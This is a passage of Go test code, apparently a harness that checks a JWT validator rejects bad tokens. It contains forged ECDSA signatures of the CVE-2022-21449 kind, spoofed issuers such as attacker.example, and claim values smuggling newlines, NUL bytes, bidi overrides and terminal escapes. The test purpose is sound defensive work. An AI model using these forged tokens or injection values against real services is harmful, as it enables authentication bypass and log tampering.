		{"ECDSA with a byte less", "RFC 7518 §3.4", unsigned, valid.with(valid.signature[:63])},
		{"ECDSA with zeros at each number's front", "RFC 7518 §3.4", unsigned, valid.with(slices.Concat([]byte{0}, valid.signature[:32], []byte{0}, valid.signature[32:]))},
		{"padding of each part", "RFC 7515 §2", malformed, header + "=." + payload + "=." + signature + "="},
		{"stray bits in the header", "RFC 4648 §3.5", malformed, l.strayHeader()},
		{"ECDSA on P-521 with the order added to r", "RFC 7518 §3.4", unsigned, wide.pair(new(big.Int).Add(wideR, order), wideS)},
		{"ECDSA on P-521 with the order added to s", "RFC 7518 §3.4", unsigned, wide.pair(wideR, new(big.Int).Add(wideS, order))},
		{"ECDSA on P-521 without its leading zeros", "RFC 7518 §3.4", unsigned, wide.with(append(bytes.TrimLeft(wide.signature[:66], "\x00"), wide.signature[67:]...))},
		{"ECDSA with -r for r", "RFC 7518 §3.4", unsigned, valid.pair(new(big.Int).Sub(l.p256.ecdsa().Params().N, r), s)},
		{"EdDSA with a byte more", "RFC 8032 §5.1.7", unsigned, l.ed.Sign(nil, l.Claims()) + "AA"},
	}
}

func (l *Lab) ecdsaEdges() []row {
	valid := takeApart(l.Valid())
	middle, wide := takeApart(l.p384.Sign(nil, l.Claims())), takeApart(l.p521.Sign(nil, l.Claims()))
	r, s := valid.numbers()
	curve := l.p256.ecdsa().Params()
	n := curve.N
	one, zero := big.NewInt(1), new(big.Int)
	all := new(big.Int).Sub(new(big.Int).Lsh(one, 256), one)
	return []row{
		{"ECDSA, both zero", "CVE-2022-21449", unsigned, valid.pair(zero, zero)},
		{"ECDSA, r zero and s one", "CVE-2022-21449", unsigned, valid.pair(zero, one)},
		{"ECDSA, both one", "RFC 7518 §3.4", unsigned, valid.pair(one, one)},
		{"ECDSA, both the order", "CVE-2022-21449", unsigned, valid.pair(n, n)},
		{"ECDSA, s zero", "RFC 7518 §3.4", unsigned, valid.pair(r, zero)},
		{"ECDSA, r zero", "CVE-2022-21449", unsigned, valid.pair(zero, s)},
		{"ECDSA, r one and s zero", "CVE-2022-21449", unsigned, valid.pair(one, zero)},
		{"ECDSA, r the order", "CVE-2022-21449", unsigned, valid.pair(n, s)},
		{"ECDSA, s the order", "CVE-2022-21449", unsigned, valid.pair(r, n)},
		{"ECDSA, both the order less one", "RFC 7518 §3.4", unsigned, valid.pair(new(big.Int).Sub(n, one), new(big.Int).Sub(n, one))},
		{"ECDSA, both the order and one", "RFC 7518 §3.4", unsigned, valid.pair(new(big.Int).Add(n, one), new(big.Int).Add(n, one))},
		{"ECDSA, r the field's prime", "RFC 7518 §3.4", unsigned, valid.pair(curve.P, one)},
		{"ECDSA, both all ones", "RFC 7518 §3.4", unsigned, valid.pair(all, all)},
		{"ECDSA, r the generator's", "RFC 7518 §3.4", unsigned, valid.pair(curve.Gx, one)},
		{"ECDSA, r the key's own", "RFC 7518 §3.4", unsigned, valid.pair(new(big.Int).SetBytes(must(l.p256.ecdsa().PublicKey.Bytes())[1:33]), one)},
		{"ECDSA, a single zero", "CVE-2022-21449", unsigned, valid.with([]byte{0})},
		{"ECDSA on P-384, both zero", "CVE-2022-21449", unsigned, middle.pair(zero, zero)},
		{"ECDSA on P-384, both the order", "CVE-2022-21449", unsigned, middle.pair(l.p384.ecdsa().Params().N, l.p384.ecdsa().Params().N)},
		{"ECDSA on P-521, both zero", "CVE-2022-21449", unsigned, wide.pair(zero, zero)},
		{"ECDSA on P-521, both the order", "CVE-2022-21449", unsigned, wide.pair(l.p521.ecdsa().Params().N, l.p521.ecdsa().Params().N)},
		{"ECDSA on P-521, zeros in ASN.1", "CVE-2022-21449", unsigned, wide.with([]byte{0x30, 6, 2, 1, 0, 2, 1, 0})},
	}
}

func (l *Lab) kinds() []row {
	claim := func(change Object) string { return l.p256.Sign(nil, l.Claims().With(change)) }
	with := func(change Object) string { return l.p256.Sign(change, l.Claims()) }
	return []row{
		{"typ of a logout token", "RFC 8725 §3.11", malformed, with(Object{"typ": "logout+jwt"})},
		{"typ of a DPoP proof", "RFC 9449 §4.2", malformed, with(Object{"typ": "dpop+jwt"})},
		{"typ of a security event", "RFC 8417 §2.3", malformed, with(Object{"typ": "secevent+jwt"})},
		{"typ of an introspection response", "RFC 9701 §5", malformed, with(Object{"typ": "token-introspection+jwt"})},
		{"typ of an authorization request", "RFC 9101 §10.8", malformed, with(Object{"typ": "oauth-authz-req+jwt"})},
		{"typ of a client's assertion", "RFC 8725 §3.11", malformed, with(Object{"typ": "client-authentication+jwt"})},
		{"typ of an ID token", "RFC 8725 §3.11", malformed, with(Object{"typ": "id+jwt"})},
		{"typ of a refresh token", "RFC 8725 §3.11", malformed, with(Object{"typ": "refresh+jwt"})},
		{"typ of a credential", "RFC 8725 §3.11", malformed, with(Object{"typ": "vc+sd-jwt"})},
		{"typ of encryption", "RFC 7516 §4.1.11", malformed, with(Object{"typ": "JOSE+JSON"})},
		{"typ of another media type", "RFC 7515 §4.1.9", malformed, with(Object{"typ": "text/jwt"})},
		{"typ at+jwt of a kind of its own", "RFC 9068 §2.1", malformed, with(Object{"typ": "x-at+jwt"})},
		{"an ID token by its hash", "OpenID Connect Core §3.1.3.6", claims, claim(Object{"at_hash": "x"})},
		{"an ID token by its code's hash", "OpenID Connect Core §3.3.2.11", claims, claim(Object{"c_hash": "x"})},
		{"an ID token for the client", "OpenID Connect Core §2", claims, claim(Object{"aud": Client, "azp": Client})},
		{"Cognito's ID token", "Cognito token_use", claims, claim(Object{"token_use": "id"})},
		{"Cognito's kind as a number", "Cognito token_use", claims, claim(Object{"token_use": 1})},
		{"Keycloak's ID token", "Keycloak typ", claims, claim(Object{"typ": "ID"})},
		{"Keycloak's refresh token", "Keycloak typ", claims, claim(Object{"typ": "Refresh"})},
		{"Keycloak's offline token", "Keycloak typ", claims, claim(Object{"typ": "Offline"})},
		{"Keycloak's logout token", "Keycloak typ", claims, claim(Object{"typ": "Logout"})},
		{"a typ claim that is no string", "Keycloak typ", claims, claim(Object{"typ": []string{"Bearer"}})},
		{"a logout token", "OpenID Connect Back-Channel Logout §2.4", claims, claim(Object{"events": Object{"http://schemas.openid.net/event/backchannel-logout": Object{}}})},
		{"an events claim that is null", "RFC 8417 §2.2", claims, claim(Object{"events": null})},
		{"bound to a key", "RFC 7800 §3.1", claims, claim(Object{"cnf": Object{"jkt": "x"}})},
		{"bound to a certificate", "RFC 8705 §3.1", claims, claim(Object{"cnf": Object{"x5t#S256": "x"}})},
		{"a cnf that is null", "RFC 7800 §3.1", claims, claim(Object{"cnf": null})},
		{"Cognito's kind in capitals", "Cognito token_use", claims, claim(Object{"token_use": "ACCESS"})},
		{"Cognito's kind that is null", "Cognito token_use", claims, claim(Object{"token_use": null})},
		{"Keycloak's DPoP token", "RFC 9449 §6", claims, claim(Object{"typ": "DPoP"})},
		{"Keycloak's kind that is empty", "Keycloak typ", claims, claim(Object{"typ": ""})},
		{"an ID token by a hash that is null", "OpenID Connect Core §3.1.3.6", claims, claim(Object{"at_hash": null})},
	}
}

func (l *Lab) claims() []row {
	with := func(change Object) string { return l.p256.Sign(nil, l.Claims().With(change)) }
	at := func(d time.Duration) int64 { return l.now.Add(d).Unix() }
	raw := func(s string) json.RawMessage { return json.RawMessage(s) }
	return []row{
		{"no iss", "RFC 7519 §4.1.1", claims, with(Object{"iss": nil})},
		{"iss with a slash behind", "OpenID Connect Discovery §4.3", claims, with(Object{"iss": l.A.URL + "/"})},
		{"iss in capitals", "RFC 7519 §4.1.1", claims, with(Object{"iss": strings.ToUpper(l.A.URL)})},
		{"iss of a stranger", "RFC 7519 §4.1.1", claims, with(Object{"iss": "https://attacker.example"})},
		{"iss that begins as the issuer", "RFC 7519 §4.1.1", claims, with(Object{"iss": l.A.URL + ".attacker.example"})},
		{"iss is a list", "RFC 7519 §4.1.1", claims, with(Object{"iss": []string{l.A.URL}})},
		{"iss is null", "RFC 7519 §4.1.1", claims, with(Object{"iss": null})},
		{"Iss for iss", "RFC 7519 §4", claims, with(Object{"iss": nil, "Iss": l.A.URL})},
		{"no aud", "RFC 7519 §4.1.3", claims, with(Object{"aud": nil})},
		{"aud of another service", "RFC 7519 §4.1.3", claims, with(Object{"aud": "https://other.example"})},
		{"aud that begins as ours", "RFC 7519 §4.1.3", claims, with(Object{"aud": Audience + ".attacker.example"})},
		{"aud that ours begins with", "RFC 7519 §4.1.3", claims, with(Object{"aud": Audience[:10]})},
		{"aud in capitals", "RFC 7519 §4.1.3", claims, with(Object{"aud": strings.ToUpper(Audience)})},
		{"aud with ours among words", "RFC 7519 §4.1.3", claims, with(Object{"aud": "other " + Audience})},
		{"aud is empty", "RFC 7519 §4.1.3", claims, with(Object{"aud": ""})},
		{"aud is an empty list", "CVE-2020-26160", claims, with(Object{"aud": []string{}})},
		{"aud is null", "RFC 7519 §4.1.3", claims, with(Object{"aud": null})},
		{"aud is an object", "RFC 7519 §4.1.3", claims, with(Object{"aud": Object{Audience: true}})},
		{"aud is a list with a number in it", "RFC 7519 §4.1.3", claims, with(Object{"aud": []any{Audience, 1}})},
		{"no sub", "RFC 9068 §2.2", claims, with(Object{"sub": nil})},
		{"sub is empty", "OpenID Connect Core §2", claims, with(Object{"sub": ""})},
		{"sub is null", "RFC 7519 §4.1.2", claims, with(Object{"sub": null})},
		{"sub is a number", "RFC 7519 §4.1.2", claims, with(Object{"sub": 1})},
		{"sub of 256 characters", "OpenID Connect Core §2", claims, with(Object{"sub": strings.Repeat("s", 256)})},
		{"sub with a line end", "CWE-117", claims, with(Object{"sub": "alice\nroot"})},
		{"sub with a NUL", "CWE-158", claims, with(Object{"sub": "alice\x00root"})},
		{"sub that turns the writing round", "CVE-2021-42574", claims, with(Object{"sub": "alice\u202etoor"})},
		{"sub that tokens without sub share", "the settings", claims, with(Object{"sub": "jwt:shared"})},
		{"Sub for sub", "RFC 7519 §4", claims, with(Object{"sub": nil, "Sub": Subject})},
		{"no exp", "RFC 9068 §2.2", claims, with(Object{"exp": nil})},
		{"exp is a string", "RFC 7519 §2", claims, with(Object{"exp": "4102444800"})},
		{"exp is null", "RFC 7519 §2", claims, with(Object{"exp": null})},
		{"exp is true", "RFC 7519 §2", claims, with(Object{"exp": true})},
		{"exp in milliseconds", "RFC 7519 §2", claims, with(Object{"exp": at(time.Hour) * 1000})},
		{"exp beyond 64 bits", "CWE-190", claims, with(Object{"exp": raw("9223372036854775808")})},
		{"exp beyond floating point", "CWE-190", claims, with(Object{"exp": raw("1e400")})},
		{"exp just expired", "RFC 7519 §4.1.4", expired, with(Object{"exp": at(-LabLeeway)})},
		{"exp long ago", "RFC 7519 §4.1.4", expired, with(Object{"exp": 1})},
		{"exp before 1970", "RFC 7519 §2", expired, with(Object{"exp": -1})},
		{"exp zero", "RFC 7519 §4.1.4", expired, with(Object{"exp": 0})},
		{"nbf ahead", "RFC 7519 §4.1.5", claims, with(Object{"nbf": at(time.Hour)})},
		{"nbf just ahead of the leeway", "RFC 7519 §4.1.5", claims, with(Object{"nbf": at(LabLeeway + 6*time.Minute)})},
		{"nbf is a string", "RFC 7519 §2", claims, with(Object{"nbf": "0"})},
		{"nbf is null", "RFC 7519 §2", claims, with(Object{"nbf": null})},
		{"iat is a string", "RFC 7519 §2", claims, with(Object{"iat": "now"})},
		{"jti is a number", "RFC 7519 §4.1.7", claims, with(Object{"jti": 1})},
		{"jti with a line end", "CWE-117", claims, with(Object{"jti": "a\nb"})},
		{"jti of 256 characters", "CWE-400", claims, with(Object{"jti": strings.Repeat("j", 256)})},
		{"client_id is a list", "RFC 8693 §4.3", claims, with(Object{"client_id": []string{Client}})},
		{"scope is a number", "RFC 8693 §4.2", claims, with(Object{"scope": 1})},
		{"scope is null", "RFC 8693 §4.2", claims, with(Object{"scope": null})},
		{"scope is an object", "RFC 8693 §4.2", claims, with(Object{"scope": Object{"jobs:admin": true}})},
		{"scope is a list with a number in it", "RFC 8693 §4.2", claims, with(Object{"scope": []any{"jobs:read", 1}})},
		{"scope is a list with two in one", "RFC 6749 §3.3", claims, with(Object{"scope": []any{"jobs:read jobs:admin"}})},
		{"scope with a tab", "RFC 6749 §3.3", claims, with(Object{"scope": "jobs:read\tjobs:admin"})},
		{"scope with a quote", "RFC 6749 §3.3", claims, with(Object{"scope": `jobs:read "`})},
		{"scope malformed beside a good scp", "one scope claim counts", claims, with(Object{"scope": 1, "scp": "jobs:read"})},
		{"iss with a line end behind", "RFC 7519 §4.1.1", claims, with(Object{"iss": l.A.URL + "\n"})},
		{"iss that is empty", "RFC 7519 §4.1.1", claims, with(Object{"iss": ""})},
		{"iss that is the discovery document", "OpenID Connect Discovery §4.3", claims, with(Object{"iss": l.A.URL + DiscoveryPath})},
		{"aud with a slash behind", "RFC 7519 §4.1.3", claims, with(Object{"aud": Audience + "/"})},
		{"aud is true", "RFC 7519 §4.1.3", claims, with(Object{"aud": true})},
		{"aud is a list in a list", "RFC 7519 §4.1.3", claims, with(Object{"aud": [][]string{{Audience}}})},
		{"aud is the issuer", "RFC 8725 §3.9", claims, with(Object{"aud": l.A.URL})},
		{"aud is the client", "RFC 8725 §3.9", claims, with(Object{"aud": []string{Client}})},
		{"sub is a list", "RFC 7519 §4.1.2", claims, with(Object{"sub": []string{Subject}})},
		{"sub with a zero-width space", "CWE-1007", claims, with(Object{"sub": "alice\u200b"})},
		{"sub with an escape sequence", "CWE-150", claims, with(Object{"sub": "alice\x1b[2J"})},
		{"sub with a byte order mark", "CWE-1007", claims, with(Object{"sub": "\ufeffalice"})},
		{"exp is a list", "RFC 7519 §2", claims, with(Object{"exp": []int64{at(time.Hour)}})},
		{"exp of minus infinity", "CWE-190", claims, with(Object{"exp": raw("-1e999")})},
		{"exp a second too late for a year", "RFC 7519 §2", claims, with(Object{"exp": raw("253402300800")})},
		{"exp as a small fraction", "RFC 7519 §4.1.4", expired, with(Object{"exp": raw("1e-300")})},
		{"Exp for exp", "RFC 7519 §4", claims, with(Object{"exp": nil, "Exp": at(time.Hour)})},
		{"exp long ago and nbf ahead", "RFC 7519 §4.1.5", claims, with(Object{"exp": 1, "nbf": at(time.Hour)})},
		{"nbf in milliseconds", "RFC 7519 §2", claims, with(Object{"nbf": at(-time.Hour) * 1000})},
		{"iat is null", "RFC 7519 §2", claims, with(Object{"iat": null})},
		{"iat beyond floating point", "CWE-190", claims, with(Object{"iat": raw("1e400")})},
		{"jti is empty", "RFC 7519 §4.1.7", claims, with(Object{"jti": ""})},
		{"jti is null", "RFC 7519 §4.1.7", claims, with(Object{"jti": null})},
		{"client_id is empty", "RFC 8693 §4.3", claims, with(Object{"client_id": ""})},
		{"azp is a number", "OpenID Connect Core §2", claims, with(Object{"azp": 1})},
		{"scope with a letter beyond ASCII", "RFC 6749 §3.3", claims, with(Object{"scope": "jobs:reäd"})},
		{"scope with a backslash", "RFC 6749 §3.3", claims, with(Object{"scope": `jobs:read\\`})},
		{"scope with a line end", "RFC 6749 §3.3", claims, with(Object{"scope": "jobs:read\njobs:admin"})},
		{"scope is a list with an empty one", "RFC 6749 §3.3", claims, with(Object{"scope": []string{"jobs:read", ""}})},
		{"scope is true", "RFC 8693 §4.2", claims, with(Object{"scope": true})},
	}
}
